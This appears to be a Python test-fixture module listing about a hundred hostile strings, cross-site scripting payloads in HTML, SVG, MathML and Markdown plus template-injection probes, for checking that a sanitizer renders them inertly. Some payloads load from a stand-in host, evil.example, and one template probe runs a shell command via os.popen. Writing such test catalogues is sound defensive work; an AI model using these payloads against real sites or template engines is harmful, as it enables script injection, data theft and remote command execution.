"""Hostile strings for the safety tests: each one would run script, load something or evaluate a
template if it ever reached a page, a feed or a template engine as anything but text.

Every payload that could execute names itself: it calls ``window.__xss.push('ID')`` (or
``parent.__xss.push('ID')`` from a frame) or ``alert('ID')``, so a browser that runs it says
which one got through. Template payloads sit between ``tplNN`` markers so what a page shows
between them can be compared with what was written.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    id: str
    text: str


def _payloads(*items: tuple[str, str]) -> tuple[Payload, ...]:
    return tuple(Payload(pid, text) for pid, text in items)


SCRIPT_TAGS = _payloads(
    ("X01", "<script>window.__xss.push('X01')</script>"),
    ("X02", "<SCRIPT>window.__xss.push('X02')</SCRIPT>"),
    ("X03", "<ScRiPt >window.__xss.push('X03')</sCrIpT >"),
    ("X04", "<script\n>window.__xss.push('X04')</script\n>"),
    ("X05", "<script/x>window.__xss.push('X05')</script>"),
    ("X06", "<script src=\"data:text/javascript,window.__xss.push('X06')\"></script>"),
    ("X07", "<<script>window.__xss.push('X07');//<</script>"),
    ("X08", "<script>alert('X08')</script"),
    ("X09", "</title><script>window.__xss.push('X09')</script>"),
    ("X10", "</textarea></style></noscript><script>window.__xss.push('X10')</script>"),
    ("X11", "<scr<script>ipt>window.__xss.push('X11')</scr</script>ipt>"),
    ("X12", "<script\tsrc=//evil.example/X12.js></script>"),
)

EVENT_HANDLERS = _payloads(
    ("X13", "<img src=x onerror=\"window.__xss.push('X13')\">"),
    ("X14", "<IMG SRC=x OnErRoR=alert('X14')>"),
    ("X15", "<svg onload=\"window.__xss.push('X15')\">"),
    ("X16", "<svg/onload=window.__xss.push('X16')>"),
    ("X17", "<body onload=\"window.__xss.push('X17')\">"),
    ("X18", "<input autofocus onfocus=\"window.__xss.push('X18')\">"),
    ("X19", "<details open ontoggle=\"window.__xss.push('X19')\"><summary>s</summary></details>"),
    ("X20", "<video><source onerror=\"window.__xss.push('X20')\"></video>"),
    ("X21", "<audio src=x onerror=window.__xss.push('X21')>"),
    ("X22", "<div onmouseover=\"window.__xss.push('X22')\">hover me</div>"),
    (
        "X23",
        '<a href="https://example.com/" onclick="window.__xss.push(\'X23\')" '
        "onmouseover=\"window.__xss.push('X23')\">link</a>",
    ),
    ("X24", "<marquee onstart=\"window.__xss.push('X24')\">m</marquee>"),
    ("X25", "<select autofocus onfocus=window.__xss.push('X25')></select>"),
    ("X26", "<iframe srcdoc=\"<script>parent.__xss.push('X26')</script>\"></iframe>"),
    ("X27", '<img src="x" onerror = "window.__xss.push(\'X27\')" >'),
    ("X28", '<img """><script>window.__xss.push(\'X28\')</script>">'),
    ("X29", "<img src=x onerror=window.__xss.push('X29')"),
    ("X30", "<textarea autofocus onfocus=alert('X30')>t</textarea>"),
    ("X31", "<p onpointerover=\"window.__xss.push('X31')\" onfocusin=\"window.__xss.push('X31')\" tabindex=0>p</p>"),
)

URLS = _payloads(
    ("X32", "<a href=\"javascript:window.__xss.push('X32')\">click</a>"),
    ("X33", "<a href=\"JaVaScRiPt:window.__xss.push('X33')\">click</a>"),
    ("X34", "<a href=\"jav&#x09;ascript:window.__xss.push('X34')\">click</a>"),
    (
        "X35",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss.push('X35')\">click</a>",
    ),
    ("X36", "<a href=\" &#14; javascript:window.__xss.push('X36')\">click</a>"),
    ("X37", "<a href=\"vbscript:msgbox('X37')\">click</a>"),
    ("X38", "<a href=\"data:text/html,<script>alert('X38')</script>\">click</a>"),
    ("X39", "<a href=\"java\nscript:window.__xss.push('X39')\">click</a>"),
    ("X40", "<a href=\"javascript&colon;window.__xss.push('X40')\">click</a>"),
    ("X41", "<form action=\"javascript:window.__xss.push('X41')\"><button>go</button></form>"),
    ("X42", "<button formaction=\"javascript:window.__xss.push('X42')\">go</button>"),
    ("X43", "<iframe src=\"javascript:parent.__xss.push('X43')\"></iframe>"),
    ("X44", "<object data=\"javascript:window.__xss.push('X44')\"></object>"),
    ("X45", '<embed src="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MucHVzaCgnWDQ1Jyk8L3NjcmlwdD4=">'),
    ("X46", "<a href=\"&#x6A;avascript&#x3A;window.__xss.push('X46')\">click</a>"),
    ("X47", "<a href=\"\x01javascript:window.__xss.push('X47')\">click</a>".replace("\x01", "&#1;")),
)

SVG_MATHML = _payloads(
    ("X48", '<svg><a xlink:href="javascript:window.__xss.push(\'X48\')"><text x="10" y="20">svg</text></a></svg>'),
    (
        "X49",
        "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss.push('X49')>"
        "</style></mglyph></table></mtext></math>",
    ),
    ("X50", "<math href=\"javascript:window.__xss.push('X50')\">math</math>"),
    ("X51", "<svg><script>window.__xss.push('X51')</script></svg>"),
    ("X52", '<svg><animate onbegin="window.__xss.push(\'X52\')" attributeName="x" dur="1s"/></svg>'),
    (
        "X53",
        '<svg><a><animate attributeName="href" values="javascript:window.__xss.push(\'X53\')"/>'
        '<text y="20">x</text></a></svg>',
    ),
    ("X54", "<noscript><p title=\"</noscript><img src=x onerror=window.__xss.push('X54')>\"></noscript>"),
    (
        "X55",
        "<svg><foreignObject><iframe srcdoc=\"<script>parent.__xss.push('X55')</script>\">"
        "</iframe></foreignObject></svg>",
    ),
)

MALFORMED = _payloads(
    ("X56", "<a href=\"https://example.com/\"<script>window.__xss.push('X56')</script>>x</a>"),
    ("X57", "<!--<img src=\"--><img src=x onerror=window.__xss.push('X57')//\">"),
    ("X58", "<![CDATA[<script>window.__xss.push('X58')</script>]]>"),
    ("X59", "<!--[if gte IE 4]><script>window.__xss.push('X59')</script><![endif]-->"),
    ("X60", "<div style=\"width: expression(alert('X60'))\">css</div>"),
    ("X61", "<div style=\"background:url(javascript:window.__xss.push('X61'))\">css</div>"),
    ("X62", "<style>@import 'javascript:alert(\"X62\")'; body{background:url(//evil.example/X62)}</style>"),
    ("X63", '<link rel="stylesheet" href="javascript:window.__xss.push(\'X63\')">'),
    ("X64", '<meta http-equiv="refresh" content="0;url=javascript:window.__xss.push(\'X64\')">'),
    ("X65", "<base href=\"javascript:window.__xss.push('X65')//\">"),
    ("X66", '<form action="https://evil.example/X66"><input name=q value=x></form>'),
    ("X67", '<a href="https://example.com/">ok</a><img src=//evil.example/X67.png>'),
    ("X68", "</p></div></main><script>window.__xss.push('X68')</script>"),
)

BREAKOUTS = _payloads(
    ("X69", "\"><svg onload=window.__xss.push('X69')>"),
    ("X70", "'><img src=x onerror=window.__xss.push('X70')>"),
    ("X71", '" onmouseover="window.__xss.push(\'X71\')" autofocus onfocus="window.__xss.push(\'X71\')" x="'),
    ("X72", "' autofocus onfocus='alert(\"X72\")' x='"),
    ("X73", "</a><a href=javascript:window.__xss.push('X73')>x</a>"),
    ("X74", "\"></time></title></textarea><img src=x onerror=window.__xss.push('X74')>"),
    ("X75", "--></svg><script>window.__xss.push('X75')</script>"),
)

MARKDOWN = _payloads(
    ("X76", "[click](javascript:window.__xss.push('X76'))"),
    ("X77", "[click](JaVaScRiPt:alert('X77'))"),
    ("X78", "[click](<javascript:window.__xss.push('X78')>)"),
    ("X79", "![x](x\" onerror=\"window.__xss.push('X79'))"),
    ("X80", "![x](https://evil.example/X80.png)"),
    ("X81", "[click][evil]\n\n[evil]: javascript:window.__xss.push('X81')"),
    ("X82", "<javascript:window.__xss.push('X82')>"),
    ("X83", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWDgzJyk8L3NjcmlwdD4=)"),
    ("X84", "[click](vbscript:msgbox('X84'))"),
    ("X85", '[a](https://example.com/ "t\\" onmouseover=\\"window.__xss.push(\'X85\')")'),
    ("X86", "[click](javas&#99;ript:window.__xss.push('X86'))"),
    ("X87", 'Hello\n{: onclick="window.__xss.push(\'X87\')" style="color:red" }'),
    ("X88", "<div markdown=\"1\">[x](javascript:window.__xss.push('X88'))</div>"),
    ("X89", "*[HTML]: <script>window.__xss.push('X89')</script>\n\nHTML here"),
    ("X90", "```\n</code></pre><script>window.__xss.push('X90')</script>\n```"),
    ("X91", "[click]( javascript:window.__xss.push('X91') \"t\")"),
    ("X92", "Note[^1]\n\n[^1]: <img src=x onerror=window.__xss.push('X92')>"),
    ("X93", "| a |\n|---|\n| <img src=x onerror=window.__xss.push('X93')> |"),
)

TEMPLATES = _payloads(
    ("T01", "tpl01 {{ 7*7 }} tpl01"),
    ("T02", "tpl02 {{7*'7'}} tpl02"),
    ("T03", "tpl03 {% for x in range(3) %}XYZ{% endfor %} tpl03"),
    ("T04", "tpl04 ${7*7} tpl04"),
    ("T05", "tpl05 #{7*7} tpl05"),
    ("T06", "tpl06 {{ config }} tpl06"),
    ("T07", "tpl07 {{ ''.__class__.__mro__ }} tpl07"),
    ("T08", "tpl08 <%= 7*7 %> tpl08"),
    ("T09", "tpl09 {{ self.__init__.__globals__.__builtins__ }} tpl09"),
    ("T10", "tpl10 {{ cycler.__init__.__globals__.os.popen('id').read() }} tpl10"),
    ("T11", "tpl11 {% raw %}{{ 7*7 }}{% endraw %} {# hidden #} tpl11"),
    ("T12", "tpl12 {{ site.title }} {{ state }} tpl12"),
)

# What a template engine would have made of the template payloads, had it evaluated them.
EVALUATED = ("49", "7777777", "XYZXYZ", "<class", "uid=", "<Config", "Undefined", "<module")

PAYLOADS: tuple[Payload, ...] = (
    SCRIPT_TAGS + EVENT_HANDLERS + URLS + SVG_MATHML + MALFORMED + BREAKOUTS + MARKDOWN + TEMPLATES
)
